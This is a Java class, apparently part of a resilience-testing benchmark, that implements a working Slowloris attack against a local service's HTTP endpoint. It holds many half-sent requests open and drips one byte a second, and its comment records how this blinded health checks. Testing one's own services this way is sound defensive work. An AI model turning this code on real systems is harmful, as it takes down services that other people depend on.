package io.tidemark.bench.attack;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.concurrent.TimeUnit;

/**
 * Connections to the TSO's HTTP endpoint that send half a request and then one byte a second, reopened when the TSO
 * closes them (issue 33, finding 4). One such request blinded /health and /metrics for as long as it was held, so
 * supervisors and load balancers saw a dead TSO.
 */
public final class HttpSlowloris implements Attack {

    private static final String SOURCE = "127.0.0.8";
    private static final byte[] HALF_REQUEST = "GET /health HTTP/1.1\r\nHost: tso\r\nX-Slow: "
            .getBytes(StandardCharsets.US_ASCII);

    private final int count;
    private int opened;
    private int closedByTso;

    public HttpSlowloris(int count) {
        this.count = count;
    }

    @Override
    public String name() {
        return count + " half-sent HTTP requests, 1 byte a second";
    }

    @Override
    public void run(Target target, Duration duration) throws InterruptedException {
        long deadline = System.nanoTime() + duration.toNanos();
        Socket[] held = new Socket[count];
        try {
            while (System.nanoTime() < deadline) {
                long tick = System.nanoTime();
                for (int i = 0; i < count && System.nanoTime() < deadline; i++) {
                    try {
                        if (held[i] == null) {
                            held[i] = open(target.http());
                        } else {
                            OutputStream out = held[i].getOutputStream();
                            out.write('x');
                            out.flush();
                        }
                    } catch (IOException e) {
                        if (held[i] != null) {
                            closedByTso++;
                            close(held[i]);
                            held[i] = null;
                        }
                    }
                }
                Attacks.sleepUntil(Math.min(deadline, tick + TimeUnit.SECONDS.toNanos(1)));
            }
        } finally {
            for (Socket socket : held) {
                if (socket != null) {
                    close(socket);
                }
            }
        }
    }

    private Socket open(InetSocketAddress http) throws IOException {
        Socket socket = new Socket();
        socket.bind(new InetSocketAddress(SOURCE, 0));
        socket.connect(http, 5000);
        socket.getOutputStream().write(HALF_REQUEST);
        socket.getOutputStream().flush();
        opened++;
        return socket;
    }

    private static void close(Socket socket) {
        try {
            socket.close();
        } catch (IOException e) {
            // Nothing to do about it.
        }
    }

    @Override
    public String outcome() {
        return opened + " opened, " + closedByTso + " closed by the TSO (as the attacker noticed at its next byte)";
    }
}
